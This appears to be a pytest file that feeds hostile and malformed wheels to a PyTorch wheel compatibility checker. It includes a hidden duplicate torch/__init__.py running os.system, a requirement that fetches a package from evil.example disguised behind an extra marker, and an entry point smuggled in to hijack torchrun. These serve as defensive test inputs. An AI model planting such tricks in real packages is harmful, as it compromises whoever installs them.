# SPDX-FileCopyrightText: 2026 Catch Developers
# SPDX-License-Identifier: BSD-3-Clause

"""Hostile and careless input to the native interface check (``scripts/check_native_interfaces.py``): one wheel
given twice, a combined wheel hiding a second copy of a file, renamed to another Python, or carrying a requirement or
entry point that reaches plain ``torch`` installs, a removed shared object seen by layer 1 alone, non-UTF-8 metadata
and reviewed-changes files, a missing interpreter, a damaged probe cache. Every refusal is one line with the
documented exit status, and the check's cache (``$CATCH_CACHE``) is left as it was."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from fake_wheels import fake_backend_wheel, fake_torch_wheel
from hostile import one_line_error, tree_checksum
from wheel_edit import edit_wheel

from catch_tools.interfaces.check import run_check
from catch_tools.interfaces.report import ERROR, INCOMPATIBLE
from catch_tools.pin import Pin
from catch_tools.wheel.overlay import build_overlay

COMMIT = "cf30153c4c131c8164ee7798e5022d810682e2cb"
PIN = Pin("https://github.com/pytorch/pytorch.git", "v2.13.0", COMMIT, "2.13.0+cpu", 1)
REPO = Path(__file__).resolve().parents[2]
LIB = "torch/lib/libfake.so"
UP_DI = "torch-2.13.0+cpu.dist-info"
DI = "torch-2.13.0+cpu.catch1.dist-info"


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path, Path]]:
    """(upstream with a shared object, combined built from it, work dir), built once for the module."""
    tmp = tmp_path_factory.mktemp("hostile-ifcheck")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("CATCH_CACHE", str(tmp / "build-cache"))
        # the shared object is never parsed here: byte-identical in both wheels, or missing from one
        upstream = fake_torch_wheel(tmp / "up", PIN.wheel_version, COMMIT, extra={LIB: b"\x7fELF stand-in\n"})
        (tmp / "patches").mkdir()
        (tmp / "patches" / "series").write_text("")
        combined = build_overlay(upstream_wheel=upstream, backend_wheel=fake_backend_wheel(tmp / "be"),
                                 patches_dir=tmp / "patches", pin=PIN, out_dir=tmp / "dist").wheel
        yield upstream, combined, tmp


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The check's cache for this test, holding a file a previous run left (it must stay as it is)."""
    root = tmp_path / "cache"
    (root / "unpacked").mkdir(parents=True)
    (root / "unpacked" / "previous-run.txt").write_text("kept\n")
    monkeypatch.setenv("CATCH_CACHE", str(root))
    return root




def check_cli(*args: str | Path, cache: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(REPO / "scripts" / "check_native_interfaces.py"), *map(str, args)],
                          capture_output=True, text=True, check=False, timeout=600,
                          env=dict(os.environ, CATCH_CACHE=str(cache)))




def with_member(src: Path, dst: Path, name: str, data: bytes, *, first: bool = False) -> Path:
    """``dst`` = ``src`` plus one more member ``name`` (before all others with ``first``); RECORD untouched."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, warnings.catch_warnings(), \
            zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        warnings.simplefilter("ignore")  # "Duplicate name": wanted here
        infos = zin.infolist()
        extra = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
        extra.external_attr = 0o100644 << 16
        for info in ([None, *infos] if first else [*infos, None]):
            if info is None:
                zout.writestr(extra, data, zipfile.ZIP_DEFLATED)
            else:
                zout.writestr(info, zin.read(info))
    return dst


def replaced(src: Path, dst: Path, changes: Mapping[str, bytes | None]) -> Path:
    """``dst`` = ``src`` with members replaced (None: removed), RECORD regenerated (only the bytes under test are
    wrong)."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    return edit_wheel(src, dst, dict(changes))


def with_raw_member(src: Path, dst: Path, name: str, data: bytes) -> Path:
    """``dst`` = ``src`` with member ``name``'s bytes replaced as given (no RECORD regeneration)."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, data if info.filename == name else zin.read(info))
    return dst


# --- the same wheel twice ---

def test_same_path_twice_is_refused(wheels: tuple[Path, Path, Path], cache: Path) -> None:
    before = tree_checksum(cache)
    proc = check_cli(wheels[1], wheels[1], "--layers", "0", cache=cache)
    assert "same file" in one_line_error(proc, code=2)
    assert tree_checksum(cache) == before


def test_symlink_and_hard_link_to_the_same_wheel_are_refused(wheels: tuple[Path, Path, Path], cache: Path,
                                                             tmp_path: Path) -> None:
    before = tree_checksum(cache)
    link = tmp_path / "link" / wheels[1].name
    link.parent.mkdir()
    link.symlink_to(wheels[1])
    hard = tmp_path / "hard" / wheels[1].name
    hard.parent.mkdir()
    os.link(wheels[1], hard)
    for other in (link, hard):
        proc = check_cli(other, wheels[1], "--layers", "0", cache=cache)
        assert "same file" in one_line_error(proc, code=2) and str(other) in proc.stderr
    assert tree_checksum(cache) == before


def test_two_copies_of_the_same_bytes_are_refused(wheels: tuple[Path, Path, Path], cache: Path,
                                                  tmp_path: Path) -> None:
    copy = tmp_path / "copy" / wheels[1].name
    copy.parent.mkdir()
    copy.write_bytes(wheels[1].read_bytes())
    before = tree_checksum(cache)
    proc = check_cli(copy, wheels[1], "--layers", "0", cache=cache)
    assert "same bytes" in one_line_error(proc, code=2)
    assert tree_checksum(cache) == before


# --- a combined wheel hiding a hostile copy of a file ---

def test_combined_wheel_with_a_hidden_first_copy_is_refused(wheels: tuple[Path, Path, Path], cache: Path,
                                                            tmp_path: Path) -> None:
    hostile = with_member(wheels[1], tmp_path / "dup" / wheels[1].name, "torch/__init__.py",
                          b"import os\nos.system('echo owned')\n", first=True)
    before = tree_checksum(cache)
    proc = check_cli(wheels[0], hostile, "--layers", "0", cache=cache)
    err = one_line_error(proc, code=1)
    assert "torch/__init__.py" in err and str(hostile) in err
    assert tree_checksum(cache) == before


# --- layer 1 on its own sees a removed shared object ---

def test_layer_1_alone_reports_a_removed_shared_object(wheels: tuple[Path, Path, Path], cache: Path,
                                                       tmp_path: Path) -> None:
    combined = replaced(wheels[1], tmp_path / "noso" / wheels[1].name, {LIB: None})
    report = run_check(wheels[0], combined, (1,), runtime=False)
    assert report.exit_code == INCOMPATIBLE, report.to_json()
    assert [(f.code, f.path) for f in report.layers[0].findings] == [("elf-object-removed", LIB)]
    assert "0 compared, 1 removed" in " ".join(report.layers[0].notes)


def test_layer_1_count_of_compared_objects(wheels: tuple[Path, Path, Path], cache: Path) -> None:
    report = run_check(wheels[0], wheels[1], (1,), runtime=False)
    assert report.exit_code == 0, report.to_json()
    assert "1 byte-identical (not parsed), 0 compared, 0 removed" in " ".join(report.layers[0].notes)


# --- non-UTF-8 metadata in either wheel ---

@pytest.mark.parametrize(("which", "member"), [("upstream", "METADATA"), ("upstream", "WHEEL"),
                                                ("combined", "METADATA"), ("combined", "RECORD")])
def test_non_utf8_metadata_is_one_line_naming_wheel_and_member(wheels: tuple[Path, Path, Path], cache: Path,
                                                               tmp_path: Path, which: str, member: str) -> None:
    src = wheels[0] if which == "upstream" else wheels[1]
    di = UP_DI if which == "upstream" else DI
    with zipfile.ZipFile(src) as zf:
        text = zf.read(f"{di}/{member}")
    lines = text.splitlines(keepends=True)
    if member == "RECORD":  # RECORD's own bytes: written as given
        data = b"".join(lines[:2]) + b"torch/caf\xe9.py,,\n" + b"".join(lines[2:])
        bad = with_raw_member(src, tmp_path / "bad" / src.name, f"{di}/RECORD", data)
    else:
        data = b"".join(lines[:2]) + b"Summary: caf\xe9\n" + b"".join(lines[2:])
        bad = replaced(src, tmp_path / "bad" / src.name, {f"{di}/{member}": data})
    up, new = (bad, wheels[1]) if which == "upstream" else (wheels[0], bad)
    before = tree_checksum(cache)
    proc = check_cli(up, new, "--layers", "0,3", cache=cache)
    assert f"{bad}!{di}/{member}:3: " in one_line_error(proc, code=1)
    assert tree_checksum(cache) == before


# --- the reviewed-changes file and the interpreter ---

def test_non_utf8_reviewed_changes_file_exits_2_with_its_line(wheels: tuple[Path, Path, Path], cache: Path,
                                                               tmp_path: Path) -> None:
    accept = tmp_path / "reviewed.toml"
    accept.write_bytes(b'[[accept]]\ncode = "file-changed"\nreason = "caf\xe9"\n')
    proc = check_cli(wheels[0], wheels[1], "--layers", "0", "--accept", accept, cache=cache)
    assert f"{accept}:3: " in one_line_error(proc, code=2)


def test_reviewed_changes_file_of_the_wrong_shape_exits_2(wheels: tuple[Path, Path, Path], cache: Path,
                                                          tmp_path: Path) -> None:
    accept = tmp_path / "reviewed.toml"
    for text in ('accept = 3\n', 'accept = ["file-changed"]\n'):
        accept.write_text(text)
        proc = check_cli(wheels[0], wheels[1], "--layers", "0", "--accept", accept, cache=cache)
        assert str(accept) in one_line_error(proc, code=2)


def test_missing_interpreter_is_one_line_naming_it(wheels: tuple[Path, Path, Path], cache: Path,
                                                   tmp_path: Path) -> None:
    missing = tmp_path / "nonexistent" / "python"
    before = tree_checksum(cache)
    proc = check_cli(wheels[0], wheels[1], "--layers", "1", "--python", missing, cache=cache)
    assert str(missing) in one_line_error(proc, code=2)
    assert tree_checksum(cache) == before


def test_probe_that_cannot_start_is_an_error_finding(wheels: tuple[Path, Path, Path], cache: Path,
                                                     tmp_path: Path) -> None:
    report = run_check(wheels[0], wheels[1], (1,), python=str(tmp_path / "nonexistent"))
    assert report.exit_code == ERROR
    assert [f.code for f in report.layers[0].findings] == ["probe-failed"]
    assert "could not start" in report.layers[0].findings[0].message


# --- layer 0 judges requirements and entry points as the build does ---

@pytest.mark.parametrize("requirement", ['evilpkg @ https://evil.example/evilpkg-1-py3-none-any.whl;extra=="x"',
                                         "evilpkg ; python_version >= \"3\" or platform_release == ';extra == \"x'"])
def test_requirement_disguised_as_an_extra_is_a_metadata_change(wheels: tuple[Path, Path, Path], cache: Path,
                                                                tmp_path: Path, requirement: str) -> None:
    with zipfile.ZipFile(wheels[1]) as zf:
        meta = zf.read(f"{DI}/METADATA").decode()
    head, sep, body = meta.partition("\n\n")
    meta = f"{head}\nProvides-Extra: x\nRequires-Dist: {requirement}{sep}{body}"
    combined = replaced(wheels[1], tmp_path / "req" / wheels[1].name, {f"{DI}/METADATA": meta.encode()})
    report = run_check(wheels[0], combined, (0,))
    assert [f.code for f in report.layers[0].findings] == ["metadata-changed"], report.to_json()
    assert report.exit_code == INCOMPATIBLE


def test_entry_point_hidden_in_an_indented_line_is_incompatible(wheels: tuple[Path, Path, Path], cache: Path,
                                                                tmp_path: Path) -> None:
    with zipfile.ZipFile(wheels[1]) as zf:
        eps = zf.read(f"{DI}/entry_points.txt").decode()
    hidden = eps.replace("mlu = torch_mlu:_autoload\n",
                         "mlu = torch_mlu:_autoload\n  [console_scripts]\n  torchrun = torch_mlu:_autoload\n")
    assert hidden != eps
    combined = replaced(wheels[1], tmp_path / "eps" / wheels[1].name, {f"{DI}/entry_points.txt": hidden.encode()})
    report = run_check(wheels[0], combined, (0,))
    assert [f.code for f in report.layers[0].findings] == ["entry-points-unreadable"], report.to_json()
    assert report.exit_code == INCOMPATIBLE and "indented line" in report.layers[0].findings[0].message


# --- the combined wheel is what its name says ---

def test_combined_wheel_renamed_to_another_python_is_refused(wheels: tuple[Path, Path, Path], cache: Path,
                                                             tmp_path: Path) -> None:
    renamed = tmp_path / "renamed" / wheels[1].name.replace("cp311-cp311", "cp312-cp312")
    renamed.parent.mkdir()
    renamed.write_bytes(wheels[1].read_bytes())
    before = tree_checksum(cache)
    proc = check_cli(wheels[0], renamed, "--layers", "0", cache=cache)
    assert f"{renamed}!{DI}/WHEEL: " in one_line_error(proc, "cp311-cp311", code=1)
    assert tree_checksum(cache) == before


# --- a damaged probe cache is probed again, never trusted or fatal ---

@pytest.mark.parametrize("damage", ["[]\n", "{not json", '{"torch_file": 3}\n', "\xff"])
def test_damaged_probe_cache_is_probed_again(wheels: tuple[Path, Path, Path], cache: Path,
                                             caplog: pytest.LogCaptureFixture, damage: str) -> None:
    assert run_check(wheels[0], wheels[1], (1,)).exit_code == 0
    stored = list((cache / "probes").glob("*.json"))
    assert len(stored) == 1
    stored[0].write_text(damage, encoding="latin-1")
    report = run_check(wheels[0], wheels[1], (1,))
    assert report.exit_code == 0, report.to_json()
    assert "probing again" in caplog.text
    assert isinstance(json.loads(stored[0].read_text()), dict)
    assert [p.name for p in (cache / "probes").iterdir()] == [stored[0].name]  # no staging file left
